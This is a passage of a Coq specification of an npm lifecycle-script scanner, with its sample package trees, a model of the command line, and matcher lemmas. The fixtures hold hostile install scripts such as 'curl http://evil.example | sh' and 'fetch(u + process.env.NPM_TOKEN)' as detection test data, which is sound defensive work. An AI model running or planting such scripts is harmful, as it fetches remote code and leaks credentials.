Definition scansOf (fs : filesystem) (root : path)
  : list (path * result PackageScanResult) :=
  map (fun p => (p, scanPackageJson fs p)) (metadataFiles fs root).

Definition scannedResults (fs : filesystem) (root : path)
  : list PackageScanResult :=
  successes (scansOf fs root).

(** A root directory whose scope directories can be listed. *)
Definition listable (fs : filesystem) (root : path) : Prop :=
  exists listing,
    fs root = Some (Directory listing)
    /\ forall d, In d listing ->
         Dirent.isDirectory d = true ->
         startsWith (Dirent.name d) "@" = true ->
         exists inner, fs (root ++ [Dirent.name d]) = Some (Directory inner).

(** The unscoped package directories of a root that hold a metadata file,
    its scope directories, and the scoped packages of a scope that hold a
    metadata file. *)
Definition unscopedPackages (fs : filesystem) (root : path)
  (listing : list Dirent.t) : list Dirent.t :=
  filter (fun d =>
            Dirent.isDirectory d
            && negb (startsWith (Dirent.name d) ".")
            && negb (startsWith (Dirent.name d) "@")
            && existsSync fs (root ++ [Dirent.name d; "package.json"%string]))
         listing.

Definition scopeDirectories (listing : list Dirent.t) : list Dirent.t :=
  filter (fun d => Dirent.isDirectory d && startsWith (Dirent.name d) "@")
         listing.

Definition scopedPackagesOf (fs : filesystem) (root : path) (scope : Dirent.t)
  : list path :=
  filter (existsSync fs) (scopedCandidates fs (root ++ [Dirent.name scope])).

(** The count of scanned files as the specification gives it, for one tree:
    N unscoped packages and M scopes of one scoped package each make N + M
    calls of [scanPackageJson]. *)
Definition scanCountAsStated (fs : filesystem) (root : path) : Prop :=
  forall listing w,
    fs root = Some (Directory listing) ->
    (forall d, In d (scopeDirectories listing) ->
               List.length (scopedPackagesOf fs root d) = 1) ->
    walkNodeModules fs root = Ok w ->
    List.length (scanned w)
    = List.length (unscopedPackages fs root listing)
      + List.length (scopeDirectories listing).

(** The metadata documents for which [scanPackageJson] returns a result:
    anything but [null], whose [scripts], when truthy, binds every lifecycle
    key to a string or to something falsy. *)
Definition stringOrFalsy (v : value) : bool :=
  match v with
  | Some (JString _) => true
  | _ => negb (truthy v)
  end.

Definition scannable (packageJson : json) : bool :=
  match packageJson with
  | JNull => false
  | JObject props =>
      let scripts := own_property props "scripts" in
      negb (truthy scripts)
      || match scripts with
         | Some (JObject entries) =>
             forallb (fun key => stringOrFalsy (own_property entries key))
                     dangerousScripts
         | _ => true
         end
  | _ => true
  end.

(** The outcomes of the single-file scan as the specification gives them,
    for one path: not found exactly when nothing is at the path, a parse
    error exactly when something is there whose content is not JSON, and a
    result otherwise. *)
Definition isJson (fs : filesystem) (p : path) : Prop :=
  exists readable v, fs p = Some (RegularFile readable (Json v)).

Definition singleScanAsStated (fs : filesystem) (p : path) : Prop :=
  ((exists q, scanPackageJson fs p = Throw (NotFound q))
   <-> existsSync fs p = false)
  /\ (scanPackageJson fs p = Throw SyntaxError
      <-> existsSync fs p = true /\ ~ isJson fs p)
  /\ (existsSync fs p = true -> isJson fs p ->
      exists r, scanPackageJson fs p = Ok r).

(** ** Sample trees *)

Definition path_eqb (a b : path) : bool :=
  if list_eq_dec string_dec a b then true else false.

(** The file system that holds the listed nodes and nothing else. *)
Fixpoint mount (nodes : list (path * node)) : filesystem :=
  fun p =>
    match nodes with
    | [] => None
    | (q, n) :: rest => if path_eqb q p then Some n else mount rest p
    end.

Definition dir (name : string) : Dirent.t :=
  {| Dirent.name := name; Dirent.isDirectory := true |}.

Definition file (name : string) : Dirent.t :=
  {| Dirent.name := name; Dirent.isDirectory := false |}.

Definition metadata (name : string) (scripts : list (string * json)) : node :=
  RegularFile true
    (Json (JObject [("name"%string, JString (lit name));
                    ("version"%string, JString (lit "1.0.0"));
                    ("scripts"%string, JObject scripts)])).

(** [node_modules] with [.bin] and [left-pad], which has no script. *)
Definition leftPadTree : filesystem :=
  mount
    [ (["node_modules"], Directory [dir ".bin"; dir "left-pad"]);
      (["node_modules"; ".bin"], Directory [file "package.json"]);
      (["node_modules"; ".bin"; "package.json"],
        metadata "bin" [("install", JString (lit "curl http://x | sh"))]);
      (["node_modules"; "left-pad"], Directory [file "package.json"]);
      (["node_modules"; "left-pad"; "package.json"],
        RegularFile true
          (Json (JObject [("name", JString (lit "left-pad"));
                          ("version", JString (lit "1.3.0"))]))) ]%string.

(** A scope directory that holds a metadata file of its own next to its one
    scoped package. *)
Definition scopeWithMetadata : filesystem :=
  mount
    [ (["node_modules"], Directory [dir "@acme"]);
      (["node_modules"; "@acme"], Directory [file "package.json"; dir "tool"]);
      (["node_modules"; "@acme"; "package.json"], metadata "acme" []);
      (["node_modules"; "@acme"; "tool"], Directory [file "package.json"]);
      (["node_modules"; "@acme"; "tool"; "package.json"],
        metadata "@acme/tool" []) ]%string.

(** A scope whose only directory is dot-prefixed. *)
Definition scopedDotTree : filesystem :=
  mount
    [ (["node_modules"], Directory [dir "@acme"]);
      (["node_modules"; "@acme"], Directory [dir ".hidden"]);
      (["node_modules"; "@acme"; ".hidden"; "package.json"],
        metadata "hidden" [("install", JString (lit "eval(x)"))]) ]%string.

Definition mixedListing : list Dirent.t :=
  [dir "stealer"; dir "broken"; dir "@acme"; dir "garbled"; dir "locked";
   dir ".cache"; file "README.md"]%string.

(** Five packages, one of them scoped, and a dot-prefixed directory: the
    second package has an array for a script, the file of the fourth is not
    JSON, the file of the fifth cannot be read. *)
Definition mixedTree : filesystem :=
  mount
    [ (["node_modules"], Directory mixedListing);
      (["node_modules"; "stealer"; "package.json"],
        metadata "stealer"
          [("preinstall", JString (lit "echo hello"));
           ("postinstall", JString (lit "fetch(u + process.env.NPM_TOKEN)"))]);
      (["node_modules"; "broken"; "package.json"],
        metadata "broken"
          [("preinstall", JString (lit "curl http://x | sh"));
           ("install", JArray [JString (lit "node"); JString (lit "a.js")])]);
      (["node_modules"; "@acme"], Directory [dir "tool"; file "notes.txt"]);
      (["node_modules"; "@acme"; "tool"; "package.json"],
        metadata "@acme/tool" [("install", JString (lit "rm -rf /tmp/x"))]);
      (["node_modules"; "garbled"; "package.json"], RegularFile true NotJson);
      (["node_modules"; "locked"; "package.json"],
        RegularFile false (Json JNull));
      (["node_modules"; ".cache"; "package.json"],
        metadata "cache" [("install", JString (lit "eval(x)"))]) ]%string.

(** [node_modules] with a package without scripts, a package with two
    scripts, a package whose file is not JSON and a dot-prefixed directory. *)
Definition cleanAndRisky : filesystem :=
  mount
    [ (["node_modules"],
        Directory [dir "left-pad"; dir "garbled"; dir "stealer"; dir ".bin"]);
      (["node_modules"; "left-pad"; "package.json"],
        RegularFile true
          (Json (JObject [("name", JString (lit "left-pad"));
                          ("version", JString (lit "1.3.0"))])));
      (["node_modules"; "garbled"; "package.json"], RegularFile true NotJson);
      (["node_modules"; "stealer"; "package.json"],
        metadata "stealer"
          [("preinstall", JString (lit "echo hello"));
           ("postinstall", JString (lit "fetch(u + process.env.NPM_TOKEN)"))]);
      (["node_modules"; ".bin"; "package.json"],
        metadata "bin" [("install", JString (lit "curl http://x | sh"))])
    ]%string.

Definition stealerPath : path :=
  ["node_modules"; "stealer"; "package.json"]%string.

Definition brokenPath : path :=
  ["node_modules"; "broken"; "package.json"]%string.

(** ** Invariants *)

(** What holds of every analysis [analyzeScript] returns. *)
Definition wellScored (a : ScriptAnalysis) : Prop :=
  score a = riskScores (riskLevel a) /\ riskLevel a <> SAFE.

(** The invariant of the loop over the lifecycle keys. *)
Definition consistent (results : PackageScanResult) : Prop :=
  totalMatches results = matchTotal (scripts results)
  /\ Forall wellScored (Object_values (scripts results)).

(** The walk state after the metadata files among [ps] have been scanned
    in order from state [w]. *)
Definition visited (fs : filesystem) (ps : list path) (w : walk) : walk :=
  {| results :=
       results w ++ flat_map (contribution fs) (filter (existsSync fs) ps);
     scanned :=
       scanned w
       ++ map (fun p => (p, scanPackageJson fs p)) (filter (existsSync fs) ps) |}.

Definition start : walk := {| results := []; scanned := [] |}.

Definition nodeModules : path := ["node_modules"%string].

(** A value that is truthy and not a string. *)
Definition truthyNonString (v : json) : bool :=
  truthy (Some v) && match v with JString _ => false | _ => true end.

(** The single-file scan of a metadata file that binds [install] to an
    array. *)
Definition arrayScript : filesystem :=
  mount
    [ (["package.json"],
        metadata "builder"
          [("install", JArray [JString (lit "node"); JString (lit "a.js")])])
    ]%string.

(** ** The catalog tokens that trigger the combination rule *)

(** A literal run read off the front of the input. *)
Fixpoint strip (ic : bool) (cs : list N) (x : jsstring) : option jsstring :=
  match cs with
  | [] => Some x
  | p :: cs' =>
      match x with
      | c :: x' => if char_eqb ic p c then strip ic cs' x' else None
      | [] => None
      end
  end.

(** The network patterns other than webhook.site, the pattern process.env,
    and the obfuscation patterns other than Function followed by optional
    white space. *)
Definition networkTriggers : list RegExp.t :=
  filter (fun p => negb (String.eqb (source p) "webhook\.site")) networkPatterns.

Definition environmentTriggers : list RegExp.t :=
  filter (fun p => String.eqb (source p) "process\.env") environmentPatterns.

Definition obfuscationTriggers : list RegExp.t :=
  filter (fun p => negb (String.eqb (source p) "Function\s*\("))
         obfuscationPatterns.

Definition combinedByTriggers (s : jsstring) : bool :=
  (containsToken networkTriggers s && containsToken environmentTriggers s)
  || (containsToken shellPatterns s && containsToken obfuscationTriggers s).

(** A root that lists a scope directory which is no longer there. *)
Definition vanishedScope : filesystem :=
  mount [ (["node_modules"], Directory [dir "@gone"; dir "stealer"]) ]%string.

(** ** Notions of the further properties *)

(** What a metadata document binds a lifecycle key to, as the loop of
    [scanPackageJson] reads it: [packageJson.scripts[key]] when [scripts] is
    an object, [undefined] otherwise. *)
Definition lifecycleEntry (packageJson : json) (key : string) : value :=
  match packageJson with
  | JObject props =>
      match own_property props "scripts" with
      | Some (JObject entries) => own_property entries key
      | _ => None
      end
  | _ => None
  end.

(** The analysis a lifecycle key gets: one for a non-empty string, none for
    anything else. *)
Definition analysisOf (packageJson : json) (key : string)
  : list (string * ScriptAnalysis) :=
  match lifecycleEntry packageJson key with
  | Some (JString (c :: s)) => [(key, analyzeString key (c :: s))]
  | _ => []
  end.

(** The analyses of a document, in the order of the lifecycle keys. *)
Definition lifecycleAnalyses (packageJson : json)
  : list (string * ScriptAnalysis) :=
  flat_map (analysisOf packageJson) dangerousScripts.

(** A metadata field, [undefined] when the document is no object or has no
    such property. *)
Definition field (packageJson : json) (key : string) : value :=
  match packageJson with
  | JObject props => own_property props key
  | _ => None
  end.

(** The finding of one recorded analysis. *)
Definition findingOf (entry : string * ScriptAnalysis) : Finding :=
  {| type := "lifecycle_script";
     severity := riskLevel (snd entry);
     script := fst entry;
     message :=
       (fst entry ++ " script detected with "
          ++ decimal (List.length (matches (snd entry)))
          ++ " suspicious pattern(s)")%string;
     details := risks (snd entry);
     finding_matches := matches (snd entry) |}.

(** The record [scanPackageJson] starts from. *)
Definition initialResults (packageJson : json) : PackageScanResult :=
  {| packageName := or_else (field packageJson "name") "unknown";
     version := or_else (field packageJson "version") "unknown";
     scripts := [];
     overallRisk := SAFE;
     totalMatches := 0;
     findings := [] |}.

Definition leftPadPath : path :=
  ["node_modules"; "left-pad"; "package.json"]%string.

(** A package whose only scripts are not lifecycle scripts of the scanner. *)
Definition prepareOnly : filesystem :=
  mount
    [ (["package.json"],
        metadata "quiet"
          [("prepare", JString (lit "curl http://evil.example | sh"));
           ("test", JString (lit "eval(process.env.X)"))]) ]%string.

(** The same package with an [install] script. *)
Definition prepareAndInstall : filesystem :=
  mount
    [ (["package.json"],
        metadata "quiet"
          [("prepare", JString (lit "echo different"));
           ("install", JString (lit "echo hello"))]) ]%string.

Definition installOnly : filesystem :=
  mount
    [ (["package.json"],
        metadata "quiet" [("install", JString (lit "echo hello"))]) ]%string.

(** The iteration of the RepeatMatcher, as a function of the matcher of the
    repeated pattern (see [m] at [Star]). *)
Fixpoint iterate (step : jsstring -> continuation -> option jsstring)
  (k : continuation) (bound : nat) (x : jsstring) : option jsstring :=
  match bound with
  | O => k x
  | S bound' =>
      match step x (fun y =>
              if (List.length y <? List.length x)%nat
              then iterate step k bound' y else None) with
      | Some z => Some z
      | None => k x
      end
  end.

(** A script with its letters [a-z] in upper case: what two scripts that
    differ in letter case only have in common. *)
Definition upperCase (s : jsstring) : jsstring := map (canonicalize true) s.

(** A pattern that cannot match the empty string. *)
Fixpoint consumes (r : regex) : bool :=
  match r with
  | Empty => false
  | Char _ | Dot | Space => true
  | Seq a b => consumes a || consumes b
  | Alt a b => consumes a && consumes b
  | Star _ => false
  end.

(** ** The command line

    The program that wraps the scanner: [printBanner], [printHelp],
    [printResult], [printSummary] and [main].  What it writes is kept as the
    list of its [console.log] calls, one constructor per call site with the
    values the call prints and the colour it passes them through; the fixed
    texts are named, not spelled out.  [process.exit] ends the run at once;
    an exception that escapes [main] is printed by the handler at the end of
    the file, which exits with status 1. *)

Inductive colour :=
| cyanBold | gray | bold | redBold | red | yellow | blue | green | plain.

(** [riskColors[tier]]. *)
Definition riskColors (tier : RiskLevel) : colour :=
  match tier with
  | CRITICAL => redBold
  | HIGH => red
  | MEDIUM => yellow
  | LOW => blue
  | SAFE => green
  end.

Inductive line :=
| BannerTitle | BannerTagline
| UsageHeader | UsageScan | UsageCheck | UsageHelp
| ExamplesHeader | ExampleScanFile | ExampleScanTree | ExampleCheck
| PackageLine (c : colour) (packageName version : json)
| RiskLine (c : colour) (tier : RiskLevel)
| TotalMatchesLine (n : Z)
| FindingsHeader
| FindingLine (c : colour) (message : string)
| DetailLine (detail : string)
| PatternsHeader
| MatchedLine (matched : jsstring)
| ManyPatternsLine (n : nat)
| SummaryHeader | Rule
| SummaryTotal (n : nat)
| SummaryCount (tier : RiskLevel) (n : nat)
| HighRiskWarning | ReviewImmediately | ConsiderAlternatives
| MediumCaution | ReviewWhenPossible
| NoHighRisk
| ScanningFile (target : string)
| ScanningTree (target : string)
| NoSuspiciousPackages
| RunningQuickCheck
| ScanningInstalled
| NoSuspiciousInNodeModules
| UnknownCommand (command : string)
| ErrorLine (e : error).

Inductive outcome (A : Type) :=
| Returned (a : A)
| Exited (code : Z)
| Raised (e : error).
Arguments Returned {A} a.
Arguments Exited {A} code.
Arguments Raised {A} e.

(** A piece of the program: from the lines written so far to what happened
    and the lines written by then. *)
Definition cli (A : Type) := list line -> outcome A * list line.

Definition cli_ret {A} (a : A) : cli A := fun out => (Returned a, out).

Definition cli_bind {A B} (c : cli A) (f : A -> cli B) : cli B :=
  fun out =>
    match c out with
    | (Returned a, out') => f a out'
    | (Exited code, out') => (Exited code, out')
    | (Raised e, out') => (Raised e, out')
    end.

Declare Scope cli_scope.
Delimit Scope cli_scope with cli.
Notation "x <- c ;; k" := (cli_bind c (fun x => k))
  (at level 61, c at next level, right associativity) : cli_scope.
Notation "c ;;; k" := (cli_bind c (fun _ => k))
  (at level 61, right associativity) : cli_scope.

Definition console_log (l : line) : cli unit :=
  fun out => (Returned tt, out ++ [l]).

Definition process_exit {A} (code : Z) : cli A := fun out => (Exited code, out).

(** A call of the scanner from the command line: its exception, if any,
    escapes. *)
Definition call {A} (r : result A) : cli A :=
  fun out =>
    match r with
    | Ok a => (Returned a, out)
    | Throw e => (Raised e, out)
    end.

(** [list.forEach(f)]. *)
Fixpoint forEach {A} (f : A -> cli unit) (l : list A) : cli unit :=
  match l with
  | [] => cli_ret tt
  | a :: rest => (f a ;;; forEach f rest)%cli
  end.

Definition printBanner : cli unit :=
  (console_log BannerTitle ;;; console_log BannerTagline)%cli.

Definition printHelp : cli unit :=
  (console_log UsageHeader ;;; console_log UsageScan ;;;
   console_log UsageCheck ;;; console_log UsageHelp ;;;
   console_log ExamplesHeader ;;; console_log ExampleScanFile ;;;
   console_log ExampleScanTree ;;; console_log ExampleCheck)%cli.

Definition printFinding (riskColor : colour) (finding : Finding) : cli unit :=
  (console_log (FindingLine riskColor (message finding)) ;;;
   (if (0 <? List.length (details finding))%nat
    then forEach (fun detail => console_log (DetailLine detail))
           (details finding)
    else cli_ret tt) ;;;
   (if (0 <? List.length (finding_matches finding))%nat
       && (List.length (finding_matches finding) <=? 5)%nat
    then (console_log PatternsHeader ;;;
          forEach (fun mt => console_log (MatchedLine (matched mt)))
            (finding_matches finding))
    else if (5 <? List.length (finding_matches finding))%nat
    then console_log
           (ManyPatternsLine (List.length (finding_matches finding)))
    else cli_ret tt))%cli.

(** [ToString] on a value [JSON.parse] built, as a template literal applies
    it, for what it can throw; the text it makes is not spelled out.  Only an
    object can make it throw: with an own property [toString], which JSON
    never binds to a function, that property is passed over and the
    inherited [valueOf] returns the object itself, so no primitive is found.
    Without it [Object.prototype.toString] answers.  An array is joined,
    which converts each of its elements ([null] to the empty string).  A
    string, a number, a boolean and [null] always convert. *)
Fixpoint convertible (v : json) : bool :=
  match v with
  | JObject props =>
      match own_property props "toString" with
      | Some _ => false
      | None => true
      end
  | JArray items => forallb convertible items
  | _ => true
  end.

Definition ToString (v : json) : result unit :=
  if convertible v then Ok tt else Throw TypeError.

Definition printResult (result : PackageScanResult) : cli unit :=
  let riskColor := riskColors (overallRisk result) in
  (call (ToString (packageName result)) ;;;
   call (ToString (version result)) ;;;
   console_log (PackageLine riskColor (packageName result) (version result)) ;;;
   console_log (RiskLine riskColor (overallRisk result)) ;;;
   console_log (TotalMatchesLine (totalMatches result)) ;;;
   (if (0 <? List.length (findings result))%nat
    then (console_log FindingsHeader ;;;
          forEach (printFinding riskColor) (findings result))
    else cli_ret tt))%cli.

(** [results.filter(r => r.overallRisk === tier).length]. *)
Definition tierCount (tier : RiskLevel) (results : list PackageScanResult)
  : nat :=
  List.length
    (filter (fun r => RiskLevel_eqb (overallRisk r) tier) results).

Definition printCount (tier : RiskLevel) (n : nat) : cli unit :=
  if (0 <? n)%nat then console_log (SummaryCount tier n) else cli_ret tt.

Definition printSummary (results : list PackageScanResult) : cli unit :=
  let critical := tierCount CRITICAL results in
  let high := tierCount HIGH results in
  let medium := tierCount MEDIUM results in
  let low := tierCount LOW results in
  (console_log SummaryHeader ;;;
   console_log Rule ;;;
   console_log (SummaryTotal (List.length results)) ;;;
   printCount CRITICAL critical ;;;
   printCount HIGH high ;;;
   printCount MEDIUM medium ;;;
   printCount LOW low ;;;
   console_log Rule ;;;
   (if (0 <? critical)%nat || (0 <? high)%nat
    then (console_log HighRiskWarning ;;;
          console_log ReviewImmediately ;;;
          console_log ConsiderAlternatives ;;;
          process_exit 1)
    else if (0 <? medium)%nat
    then (console_log MediumCaution ;;; console_log ReviewWhenPossible)
    else console_log NoHighRisk))%cli.

(** [target.endsWith('package.json')]. *)
Definition endsWith (s suffix : string) : bool :=
  (String.length suffix <=? String.length s)%nat
  && String.eqb
       (String.substring (String.length s - String.length suffix)
          (String.length suffix) s)
       suffix.

(** [a || b] on an argument that may be missing: the default stands in for
    [undefined] and for the empty string.  For [command] the default is the
    empty string, which the first test of [main] treats like [undefined]. *)
Definition argument_or (a : option string) (b : string) : string :=
  match a with
  | Some EmptyString | None => b
  | Some s => s
  end.

(** [main], for the arguments after the script name.  [resolve] is where a
    path string leads in the file system; the names a directory lists are
    appended to it as [path.join] appends them to the string. *)
Definition main (resolve : string -> path) (fs : filesystem)
  (args : list string) : cli unit :=
  let command := argument_or (nth_error args 0) "" in
  (printBanner ;;;
   if String.eqb command "" || String.eqb command "help" then printHelp
   else if String.eqb command "scan" then
     let target := argument_or (nth_error args 1) "./package.json" in
     if endsWith target "package.json" then
       (console_log (ScanningFile target) ;;;
        result <- call (scanPackageJson fs (resolve target)) ;;
        printResult result ;;;
        if RiskLevel_eqb (overallRisk result) CRITICAL
           || RiskLevel_eqb (overallRisk result) HIGH
        then process_exit 1 else cli_ret tt)
     else
       (console_log (ScanningTree target) ;;;
        results <- call (scanNodeModules fs (resolve target)) ;;
        if (List.length results =? 0)%nat
        then console_log NoSuspiciousPackages
        else (forEach printResult results ;;; printSummary results))
   else if String.eqb command "check" then
     (console_log RunningQuickCheck ;;;
      (if existsSync fs (resolve "./package.json")
       then (result <- call (scanPackageJson fs (resolve "./package.json")) ;;
             printResult result)
       else cli_ret tt) ;;;
      (if existsSync fs (resolve "./node_modules")
       then (console_log ScanningInstalled ;;;
             results <- call (scanNodeModules fs (resolve "./node_modules")) ;;
             if (0 <? List.length results)%nat
             then (forEach printResult results ;;; printSummary results)
             else console_log NoSuspiciousInNodeModules)
       else cli_ret tt))
   else
     (console_log (UnknownCommand command) ;;; printHelp ;;; process_exit 1)
  )%cli%string.

(** A run of the program: the exit status and the lines written.  The
    handler attached to [main()] prints the error and exits with 1; a run
    that ends without [process.exit] has status 0. *)
Definition run (resolve : string -> path) (fs : filesystem)
  (args : list string) : Z * list line :=
  match main resolve fs args [] with
  | (Returned _, out) => (0%Z, out)
  | (Exited code, out) => (code, out)
  | (Raised e, out) => (1%Z, out ++ [ErrorLine e])
  end.

(** A path string as the list of its segments, [.] dropped. *)
Fixpoint segmentsFrom (current : string) (s : string) : path :=
  let close (rest : path) :=
    match current with
    | EmptyString | "."%string => rest
    | _ => current :: rest
    end in
  match s with
  | EmptyString => close []
  | String "/"%char rest => close (segmentsFrom EmptyString rest)
  | String c rest => segmentsFrom (current ++ String c EmptyString) rest
  end.

Definition segments (s : string) : path := segmentsFrom EmptyString s.

(** A result that makes the command line exit with status 1. *)
Definition alarming (r : PackageScanResult) : bool :=
  RiskLevel_eqb (overallRisk r) CRITICAL || RiskLevel_eqb (overallRisk r) HIGH.

(** A result whose name and version a template literal can convert. *)
Definition printable (r : PackageScanResult) : bool :=
  convertible (packageName r) && convertible (version r).

(** The exit status a single-file scan and a tree scan lead to. *)
Definition fileStatus (scan : result PackageScanResult) : Z :=
  match scan with
  | Ok r => if alarming r || negb (printable r) then 1%Z else 0%Z
  | Throw _ => 1%Z
  end.

Definition treeStatus (scan : result (list PackageScanResult)) : Z :=
  match scan with
  | Ok rs =>
      if existsb (fun r => alarming r || negb (printable r)) rs
      then 1%Z else 0%Z
  | Throw _ => 1%Z
  end.

(** A piece of the program that only writes lines. *)
Definition quiet (c : cli unit) : Prop :=
  forall out, exists out', c out = (Returned tt, out ++ out').

(** The exit status an outcome of [main] leads to. *)
Definition statusOf {A} (o : outcome A) : Z :=
  match o with
  | Returned _ => 0%Z
  | Exited code => code
  | Raised _ => 1%Z
  end.

(** A single-file scan that throws, or whose result cannot be printed. *)
Definition failsToPrint (scan : result PackageScanResult) : bool :=
  match scan with
  | Ok r => negb (printable r)
  | Throw _ => true
  end.

(** A project whose own metadata is rated CRITICAL, without [node_modules],
    and one with the installed packages of [mixedTree]. *)
Definition projectOnly : filesystem :=
  mount
    [ (["package.json"],
        metadata "project"
          [("postinstall", JString (lit "fetch(u + process.env.HOME)"))])
    ]%string.

(** A project whose metadata has no script and an object for a name, with
    a property [toString] that is no function; and the same metadata in an
    installed package with a harmless script. *)
Definition oddName : json := JObject [("toString"%string, JNumber 0%float)].

Definition oddProject : filesystem :=
  mount
    [ (["package.json"],
        RegularFile true (Json (JObject [("name", oddName)]))) ]%string.

Definition oddPackage : filesystem :=
  mount
    [ (["node_modules"], Directory [dir "quiet"]);
      (["node_modules"; "quiet"; "package.json"],
        RegularFile true
          (Json (JObject
                   [("name", oddName);
                    ("scripts",
                      JObject [("install", JString (lit "echo hello"))])])))
    ]%string.

(** The lines of the banner and of the help. *)
Definition bannerLines : list line := [BannerTitle; BannerTagline].

Definition helpLines : list line :=
  [UsageHeader; UsageScan; UsageCheck; UsageHelp;
   ExamplesHeader; ExampleScanFile; ExampleScanTree; ExampleCheck].

(** * Properties *)

(** ** The matcher *)

(** A successful matcher hands its continuation a suffix of its input. *)
Lemma m_suffix ic r : forall x k z,
  m ic r x k = Some z -> exists w y, x = w ++ y /\ k y = Some z.
Proof.
  induction r as [|p| | |a IHa b IHb|a IHa b IHb|a IHa]; intros x k z H;
    cbn [m] in H.
  - now exists [], x.
  - destruct x as [|c x']; [discriminate|].
    destruct (char_eqb ic p c); [|discriminate]. now exists [c], x'.
  - destruct x as [|c x']; [discriminate|].
    destruct (is_line_terminator c); [discriminate|]. now exists [c], x'.
  - destruct x as [|c x']; [discriminate|].
    destruct (is_space c); [|discriminate]. now exists [c], x'.
  - apply IHa in H. destruct H as (w1 & y1 & -> & H).
    apply IHb in H. destruct H as (w2 & y2 & -> & H).
    exists (w1 ++ w2), y2. now rewrite app_assoc.
  - destruct (m ic a x k) eqn:E.
    + injection H as <-. now apply IHa in E.
    + now apply IHb in H.
  - revert H. generalize (List.length x) at 1. intros bound. revert x.
    induction bound as [|bound IH]; intros x H.
    + now exists [], x.
    + match type of H with
      | match ?c with _ => _ end = _ => destruct c eqn:E
      end.
      * injection H as <-. apply IHa in E. destruct E as (w1 & y1 & -> & E).
        destruct (List.length y1 <? List.length (w1 ++ y1)); [|discriminate].
        apply IH in E. destruct E as (w2 & y2 & -> & E).
        exists (w1 ++ w2), y2. now rewrite app_assoc.
      * now exists [], x.
Qed.

(** The text [match_here] returns is a prefix of the input. *)
Lemma match_here_prefix re x txt :
  match_here re x = Some txt -> exists rest, x = txt ++ rest.
Proof.
  unfold match_here.
  destruct (m (ignoreCase re) (pattern re) x (fun y => Some y)) as [rest|] eqn:E;
    [|discriminate].
  intros [= <-]. apply m_suffix in E. destruct E as (w & y & -> & [= ->]).
  exists rest. f_equal.
  rewrite length_app, Nat.add_sub.
  rewrite firstn_app, Nat.sub_diag, firstn_all. simpl. now rewrite app_nil_r.
Qed.

Lemma match_here_some re x :
  match_here re x <> None
  <-> m (ignoreCase re) (pattern re) x (fun y => Some y) <> None.
Proof.
  unfold match_here.
  destruct (m (ignoreCase re) (pattern re) x (fun y => Some y));
    split; intros H; first [discriminate|exact H].
Qed.

(** [exec] returns the leftmost position at which the matcher succeeds. *)
Lemma exec_from_leftmost re : forall x n i txt,
  exec_from re x n = Some (i, txt) ->
  exists j, i = n + j
    /\ match_here re (skipn j x) = Some txt
    /\ forall j', j' < j -> match_here re (skipn j' x) = None.
Proof.
  induction x as [|c x IH]; intros n i txt H; cbn [exec_from] in H.
  - destruct (match_here re []) eqn:E; [|discriminate].
    injection H as <- <-. exists 0. rewrite Nat.add_0_r.
    repeat split; [exact E|lia].
  - destruct (match_here re (c :: x)) eqn:E.
    + injection H as <- <-. exists 0. rewrite Nat.add_0_r.
      repeat split; [exact E|lia].
    + apply IH in H. destruct H as (j & -> & M & L).
      exists (S j). repeat split; [lia|exact M|].
      intros [|j'] Hj; [exact E|]. apply L. lia.
Qed.

Lemma exec_from_finds re : forall x n r,
  exec_from re x n = Some r ->
  exists w y, x = w ++ y /\ match_here re y <> None.
Proof.
  induction x as [|c x IH]; intros n r H; cbn [exec_from] in H.
  - destruct (match_here re []) eqn:E; [|discriminate].
    exists [], []. split; [reflexivity|]. now rewrite E.
  - destruct (match_here re (c :: x)) eqn:E.
    + exists [], (c :: x). split; [reflexivity|]. now rewrite E.
    + apply IH in H. destruct H as (w & y & -> & H). now exists (c :: w), y.
Qed.

Lemma exec_from_succeeds re : forall w y n,
  match_here re y <> None -> exec_from re (w ++ y) n <> None.
Proof.
  induction w as [|c w IH]; intros y n H.
  - cbn [app]. destruct y as [|c y]; cbn [exec_from];
      destruct (match_here re _); first [discriminate|now contradiction H].
  - cbn [app exec_from]. destruct (match_here re (c :: w ++ y));
      [discriminate|now apply IH].
Qed.

(** With flag [g], element 0 of the array is the text [exec] finds first. *)
Lemma String_match_first s re found :
  global re = true -> String_match s re = Some found ->
  exists i, exec_from re s 0 = Some (i, first found).
Proof.
  unfold String_match. intros ->. cbn [match_all].
  destruct (exec_from re s 0) as [[i txt]|]; [|discriminate].
  intros [= <-]. now exists i.
Qed.

(** With flag [g] the array [match] returns has no [index]. *)
Lemma String_match_global_index s p found :
  global p = true -> String_match s p = Some found -> index found = None.
Proof.
  unfold String_match. intros ->.
  destruct (match_all p (S (List.length s)) s); [discriminate|].
  now intros [= <-].
Qed.

Lemma test_intro re w y : match_here re y <> None -> test re (w ++ y) = true.
Proof.
  intros H. unfold test. pose proof (exec_from_succeeds re w y 0 H) as S.
  destruct (exec_from re (w ++ y) 0); [reflexivity|now contradiction S].
Qed.

Lemma m_chars ic cs : forall x k,
  m ic (chars cs) x k
  = match strip ic cs x with
    | Some y => k y
    | None => None
    end.
Proof.
  induction cs as [|p cs IH]; intros x k; [reflexivity|].
  destruct cs as [|q cs'].
  - cbn [chars m strip]. destruct x as [|c x']; [reflexivity|].
    now destruct (char_eqb ic p c).
  - change (chars (p :: q :: cs')) with (Seq (Char p) (chars (q :: cs'))).
    cbn [m]. cbn [strip] in *. destruct x as [|c x']; [reflexivity|].
    destruct (char_eqb ic p c); [apply IH|reflexivity].
Qed.

Lemma m_Lit_prefix ic lit_text r x k :
  m ic (Seq (Lit lit_text) r) x k <> None ->
  m ic (Lit lit_text) x (fun y => Some y) <> None.
Proof.
  unfold Lit. cbn [m]. rewrite !m_chars.
  destruct (strip ic (JsString.lit lit_text) x); [discriminate|tauto].
Qed.

Lemma m_Alt_left ic a b x k : m ic a x k <> None -> m ic (Alt a b) x k <> None.
Proof. cbn [m]. destruct (m ic a x k); [discriminate|tauto]. Qed.

Lemma m_Alt_right ic a b x k : m ic b x k <> None -> m ic (Alt a b) x k <> None.
Proof. cbn [m]. destruct (m ic a x k); [discriminate|tauto]. Qed.

(** A match of [a.*b] reaches a place where [b] matches. *)
Lemma m_reaches ic a b x :
  m ic (Seq a (Seq (Star Dot) b)) x (fun y => Some y) <> None ->
  exists w y, x = w ++ y /\ m ic b y (fun y => Some y) <> None.
Proof.
  cbn [m]. intros H.
  match type of H with ?c <> None => destruct c as [z|] eqn:E end;
    [|now contradiction H].
  apply m_suffix in E. destruct E as (w1 & y1 & -> & E).
  apply (m_suffix ic (Star Dot)) in E. destruct E as (w2 & y2 & -> & E).
  exists (w1 ++ w2), y2. split; [now rewrite app_assoc|]. now rewrite E.
Qed.

(** ** The loop over the catalog *)

Lemma collect_app s ps acc :
